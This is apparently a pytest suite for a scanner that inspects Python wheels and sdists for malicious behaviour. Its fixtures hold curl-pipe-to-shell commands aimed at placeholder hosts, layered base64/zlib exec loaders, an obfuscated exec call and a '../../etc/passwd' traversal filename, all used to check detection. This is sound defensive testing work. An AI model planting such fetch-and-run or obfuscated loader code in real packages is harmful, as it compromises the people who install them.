from __future__ import annotations

import base64
import gc
import random
import zlib
from typing import TYPE_CHECKING, Any, NoReturn

import pytest

import scanner.behaviour.layering as layering_module
import scanner.following as following_module
import scanner.inspect as inspector
import scanner.members as members_module
import scanner.portions as portions_module
from scanner.analyzers.behaviour import behaviour as real_behaviour
from scanner.behaviour import facts_of
from scanner.inspect import inspect
from scanner.model import Inspection, Kind, Role, Severity, decode, encode
from scanner.ruleset import Ruleset
from scanner.sifting import sifted
from scanner.source import MAX_PARSE_BYTES
from tests.fixtures.artifacts import MALICIOUS, benign_release, build_sdist, build_wheel
from tests.fixtures.views import plain_ruleset

if TYPE_CHECKING:
    from collections.abc import Mapping

    from scanner.model import Finding
    from tests.fixtures.artifacts import Artifact


@pytest.fixture(scope="module")
def rules() -> Ruleset:
    return Ruleset.load()


def wheel(files: Mapping[str, bytes | str]) -> Artifact:
    return build_wheel("thing", "1.0", {"thing/__init__.py": '"""Example."""\n', **files})


def found(inspection: Inspection, rule: str) -> list[Finding]:
    return [finding for finding in inspection.findings if finding.rule == rule]


def look(artifact: Artifact, rules: Ruleset) -> Inspection:
    return inspect(artifact.data, artifact.filename, rules)


def test_a_tidy_release_has_nothing_to_weigh(rules: Ruleset) -> None:
    for artifact in benign_release():
        assert [f for f in look(artifact, rules).findings if f.kind is not Kind.QUALITY] == []


def test_equal_bytes_give_equal_inspections_and_these_survive_their_json(rules: Ruleset) -> None:
    for case in MALICIOUS.values():
        first, second = inspect(case.data, case.filename, rules), inspect(case.data, case.filename, rules)
        assert encode(first) == encode(second)
        assert decode(encode(first), Inspection) == first
        places = [(f.member, f.line or 0, f.rule) for f in first.findings]
        assert places == sorted(places)


def test_a_path_is_read_like_bytes(rules: Ruleset, tmp_path: Any) -> None:
    artifact, _ = benign_release()
    path = tmp_path / "stored-under-another-name"
    path.write_bytes(artifact.data)
    assert inspect(path, artifact.filename, rules) == look(artifact, rules)


def test_members_are_told_with_hash_size_and_role(rules: Ruleset) -> None:
    _, sdist = benign_release()
    facts = {fact.name: fact for fact in look(sdist, rules).members}
    assert facts["tidy_example-1.0/tests/test_words.py"].role is Role.TEST
    assert facts["tidy_example-1.0/pyproject.toml"].role is Role.BUILD
    assert facts["tidy_example-1.0/tidy_example/py.typed"].size == 0


def test_metadata_is_what_the_artifact_says_of_itself(rules: Ruleset) -> None:
    artifact = build_wheel(
        "thing",
        "1.0",
        {"thing.py": ""},
        metadata={"Requires-Dist": ["requests>=2"], "Author": "Ada", "Home-page": "https://home.example.invalid"},
    )
    facts = look(artifact, rules).metadata
    assert (facts.name, facts.version, facts.author) == ("thing", "1.0", "Ada")
    assert facts.requires_dist == ("requests>=2",)
    assert "Homepage, https://home.example.invalid" in facts.project_urls


@pytest.mark.parametrize(
    ("data", "filename"),
    [
        (b"", "thing-1.0-py3-none-any.whl"),
        (b"not an archive", "thing-1.0.tar.gz"),
        (benign_release()[0].data[:-30], "tidy_example-1.0-py3-none-any.whl"),
        (benign_release()[1].data + b"more", "tidy_example-1.0.tar.gz"),
        (benign_release()[0].data, "other-1.0-py3-none-any.whl"),
        (benign_release()[0].data, "tidy_example-1.0.zip"),
        (b"x", "../../etc/passwd"),
    ],
)
def test_a_refused_archive_is_a_finding_for_each_fault(data: bytes, filename: str, rules: Ruleset) -> None:
    refused = found(inspect(data, filename, rules), "archive-refused")
    assert refused
    assert all(f.kind is Kind.STRUCTURE and f.severity is Severity.HIGH and ": " in f.snippet for f in refused)


def test_what_a_refused_archive_holds_is_read_all_the_same(rules: Ruleset) -> None:
    case = MALICIOUS["decode-layers-exec"]
    inspection = inspect(case.data, "other-1.0-py3-none-any.whl", rules)
    assert found(inspection, "archive-refused")
    assert case.member in {f.member for f in inspection.findings if f.kind is Kind.BEHAVIOUR}


@pytest.mark.parametrize(
    ("content", "rule"),
    [
        (b'print( "two"\n', "source-unreadable"),
        (b"x = 1\n\0", "source-unreadable"),
        (b"# coding: nonsense\n", "source-unreadable"),
        (b"\xff\xfe\xfa\n", "source-unreadable"),
        (b"x = (" * 300 + b"\n", "source-unreadable"),
        (b"# " + random.Random(2).randbytes(MAX_PARSE_BYTES // 2 + 1).hex().encode() + b"\n", "member-too-large"),
    ],
)
@pytest.mark.parametrize(("member", "role"), [("thing/code.py", Role.IMPORT), ("tests/data.py", Role.TEST)])
def test_python_that_cannot_be_read_is_a_finding_in_its_role(
    content: bytes, rule: str, member: str, role: Role, rules: Ruleset
) -> None:
    (finding,) = found(look(wheel({member: content}), rules), rule)
    assert (finding.kind, finding.role, finding.member) == (Kind.LIMITS, role, member)


@pytest.mark.parametrize(
    ("member", "content", "is_python"),
    [
        ("thing-1.0.data/scripts/run", "#!/usr/bin/env python3\nexec(text)\n", True),
        ("thing/payload.txt", "import os\nexec(text)\n", True),
        ("thing/payload", "exec(text)\n", True),
        ("thing/notes.txt", "from the beginning of the file\nexec (s)he does\n", False),
        ("thing/stub.pyi", "import os\nexec(text)\n", False),
        ("thing/data.bin", "import os\nexec(text)\n\0", False),
    ],
)
def test_python_is_known_by_its_content(member: str, content: str, *, is_python: bool, rules: Ruleset) -> None:
    hits = found(look(wheel({member: content}), rules), "bandit-b102")
    assert [f.member for f in hits] == ([member] if is_python else [])


class Boom(Exception):
    pass


def boom(*_: object, **__: object) -> NoReturn:
    raise Boom


def test_an_analyser_that_breaks_costs_itself_only_and_holds(rules: Ruleset, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(inspector, "MEMBER_ANALYZERS", (boom, *inspector.MEMBER_ANALYZERS))
    monkeypatch.setattr(inspector, "ARTIFACT_ANALYZERS", (boom, *inspector.ARTIFACT_ANALYZERS))
    case = MALICIOUS["decode-layers-exec"]
    inspection = inspect(case.data, case.filename, rules)
    failed = found(inspection, "analysis-failed")
    assert {f.snippet for f in failed} == {"boom: Boom"}
    assert {f.member for f in failed} == {fact.name for fact in inspection.members} | {""}
    assert all(f.kind is Kind.LIMITS for f in failed)
    assert found(inspection, "decode-exec")


def test_one_member_that_breaks_the_behaviour_analysis_costs_one_member(
    rules: Ruleset, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fragile(view: Any, ruleset: Ruleset) -> list[Finding]:
        if any(b"fragile" in facts.member.data for facts in facts_of(view)):
            raise Boom
        return list(real_behaviour(view, ruleset))

    monkeypatch.setattr(following_module, "behaviour", fragile)
    artifact = wheel(
        {"thing/a.py": "fragile = 1\n", "thing/b.py": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"}
    )
    inspection = look(artifact, rules)
    assert [(f.member, f.snippet) for f in found(inspection, "analysis-failed")] == [("thing/a.py", "behaviour: Boom")]
    assert {f.member for f in found(inspection, "decode-exec")} == {"thing/b.py"}


def test_without_roles_every_member_counts_as_one_that_runs(rules: Ruleset, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(members_module, "roles", boom)
    inspection = look(benign_release()[1], rules)
    assert {fact.role for fact in inspection.members} == {Role.IMPORT}
    (failed,) = found(inspection, "analysis-failed")
    assert (failed.member, failed.snippet) == ("", "roles: Boom")


def test_members_too_large_to_keep_are_looked_at_one_at_a_time(rules: Ruleset, monkeypatch: pytest.MonkeyPatch) -> None:
    noise = random.Random(1).randbytes(200_000)
    script = b"#!/bin/sh\ncurl -s http://stage.example.invalid/x | sh\n" + b"# line\n" * 2000
    artifact = wheel({"thing/lib.so": b"\x7fELF" + noise, "thing-1.0.data/scripts/run": script})
    kept = look(artifact, rules)
    monkeypatch.setattr(members_module, "HELD_BYTES", 10_000)
    monkeypatch.setattr(members_module, "HELD_MEMBER", 1_000)
    late = look(artifact, rules)
    assert {f.member for f in kept.findings} >= {"thing/lib.so", "thing-1.0.data/scripts/run"}
    assert late == kept


def test_portions_of_any_size_give_the_same_findings(rules: Ruleset, monkeypatch: pytest.MonkeyPatch) -> None:
    artifact = wheel(
        {f"thing/m{n}.py": "import os\nos.system('curl -s http://a.example.invalid | sh')\n" for n in range(9)}
    )
    whole = look(artifact, rules)
    monkeypatch.setattr(portions_module, "PORTION_BYTES", 100)
    assert look(artifact, rules) == whole


def encoded(times: int, inner: str) -> str:
    """Source with a literal that is base64 within base64 … of `inner`."""
    text = inner.encode()
    for _ in range(times):
        text = base64.b64encode(text)
    return f"import base64\n\nTABLE = '{text.decode()}'\n"


SHELL = "import os\nos.system('curl -s http://stage.example.invalid/x | sh')\n"


@pytest.mark.parametrize("times", [1, 3, 8])
def test_layers_below_layers_are_looked_at(times: int, rules: Ruleset) -> None:
    inspection = look(wheel({"thing/a.py": encoded(times, SHELL)}), rules)
    assert {f.layers for f in found(inspection, "shell-command-with-download")} == {("base64",) * times}
    assert not found(inspection, "layers-exhausted")


def test_layers_deeper_than_are_followed_are_said(rules: Ruleset) -> None:
    inspection = look(wheel({"thing/a.py": encoded(9, SHELL)}), rules)
    (exhausted,) = found(inspection, "layers-exhausted")
    assert (exhausted.kind, exhausted.role, exhausted.member) == (Kind.LIMITS, Role.IMPORT, "thing/a.py")


def test_code_that_executes_code_that_executes_code_is_followed(rules: Ruleset) -> None:
    source = SHELL
    for _ in range(3):
        packed = base64.b64encode(zlib.compress(source.encode())).decode()
        source = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{packed}')))\n"
    inspection = look(wheel({"thing/a.py": source}), rules)
    assert found(inspection, "decode-exec")
    assert found(inspection, "shell-command-with-download")


def test_more_layer_bytes_than_are_followed_are_said(rules: Ruleset, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(inspector, "LAYER_BYTES", 10)
    inspection = look(wheel({"thing/a.py": encoded(1, SHELL)}), rules)
    assert found(inspection, "layers-exhausted")


def test_what_the_behaviour_analysis_leaves_undecoded_is_said(rules: Ruleset, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(layering_module, "MAX_LAYER_BYTES", 100)
    monkeypatch.setattr(inspector, "LAYER_BYTES", 100)
    tables = "".join(
        f"T{n} = '{base64.b64encode(f'# text number {n} in plain words'.encode()).decode()}'\n" for n in range(9)
    )
    inspection = look(wheel({"thing/a.py": f"import base64\n{tables}"}), rules)
    assert found(inspection, "layers-exhausted")


def test_a_rule_that_hits_everywhere_is_capped_and_its_running_places_are_kept() -> None:
    rules = plain_ruleset()
    many = [rules.finding("double-extension", role=Role.NEVER, member=f"docs/{n}.pdf.exe") for n in range(500)] + [
        rules.finding("double-extension", role=Role.IMPORT, member="z/last.pdf.exe")
    ]
    kept = sifted(many, rules)
    assert len([f for f in kept if f.rule == "double-extension"]) == 200
    assert "z/last.pdf.exe" in {f.member for f in kept}
    assert [f.snippet for f in kept if f.rule == "findings-capped"] == ["double-extension: 501 places, 200 shown"]


def test_one_place_is_told_once_whatever_order_the_analysers_run_in() -> None:
    rules = plain_ruleset()
    some = [rules.finding("link-member", role=Role.NEVER, member=name, line=1) for name in ("b", "a", "b", "a")]
    assert [f.member for f in sifted(some, rules)] == ["a", "b"]
    shuffled = some + [rules.finding("case-collision", role=Role.NEVER, member="a", snippet=str(n)) for n in range(5)]
    expected = sifted(shuffled, rules)
    for seed in range(5):
        random.Random(seed).shuffle(shuffled)
        assert sifted(shuffled, rules) == expected


def test_inspecting_runs_nothing_and_leaves_the_collector_as_it_was(
    rules: Ruleset, tmp_path: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    assert gc.isenabled()
    look(build_sdist("thing", "1.0", {"setup.py": "open('made', 'w')\n"}), rules)
    assert gc.isenabled()
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("code", "counts"),
    [
        ("from thing import notes\nprint(notes)\n", False),
        ("from thing import notes\nexec(notes.text)\n", True),
        ("from thing import notes as n\nrun = vars(__builtins__)['ex' + 'ec']\nrun(n.text)\n", True),
    ],
)
def test_comments_are_code_where_the_artifact_executes_text(rules: Ruleset, code: str, *, counts: bool) -> None:
    notes = "# os.system('curl http://example.org/marker.sh | sh')\ntext = ''\n"
    inspection = look(wheel({"thing/notes.py": notes, "thing/use.py": code}), rules)
    assert any(finding.role is Role.IMPORT for finding in found(inspection, "shell-pipes-download")) is counts


@pytest.mark.parametrize(
    ("prose", "counts"),
    [
        ("# Install it by: curl http://example.org/marker.sh | sh\n", False),
        ('"""Notes.\n\nFetch it with\n\n    curl http://example.org/marker.sh | sh\n"""\n', False),
        ("'''\nimport os\nos.system(\n    'curl http://example.org/marker.sh | sh'\n)\n'''\n", True),
        ("'''Notes.\n\nos.system('curl http://example.org/marker.sh | sh')\n'''\n", True),
        ("# x = 1\n# os.system(\n#   'curl http://example.org/marker.sh | sh'\n# )\n", True),
        ('"""os.system(\'curl http://example.org/marker.sh | sh\')"""\n', True),
    ],
)
def test_only_prose_that_is_a_program_is_code_where_the_artifact_executes_text(
    rules: Ruleset, prose: str, *, counts: bool
) -> None:
    members = {"thing/notes.py": f"{prose}text = ''\n", "thing/use.py": "from thing import notes\nexec(notes.text)\n"}
    inspection = look(wheel(members), rules)
    assert any(finding.role is Role.IMPORT for finding in found(inspection, "shell-pipes-download")) is counts


def test_comments_in_newer_syntax_are_code_where_the_artifact_executes_text(rules: Ruleset) -> None:
    notes = "# os.system(f'curl {'http://example.org/marker.sh'} | sh')\ntext = ''\n"
    code = "from thing import notes\nexec(notes.text)\n"
    inspection = look(wheel({"thing/notes.py": notes, "thing/use.py": code}), rules)
    assert any(finding.role is Role.IMPORT for finding in found(inspection, "shell-pipes-download"))


def test_newer_syntax_hides_no_code_from_the_rules_of_text(rules: Ruleset) -> None:
    # The columns of the rewritten line are others: whatever is cut out by them would be cut out of the wrong place.
    source = "import os\nx = f'{'a' * 99}'; 'prose'; os.system('curl http://example.org/marker.sh | sh')\n"
    inspection = look(wheel({"thing/use.py": source}), rules)
    assert {finding.role for finding in found(inspection, "shell-pipes-download")} == {Role.IMPORT}
    assert not found(inspection, "source-unreadable")
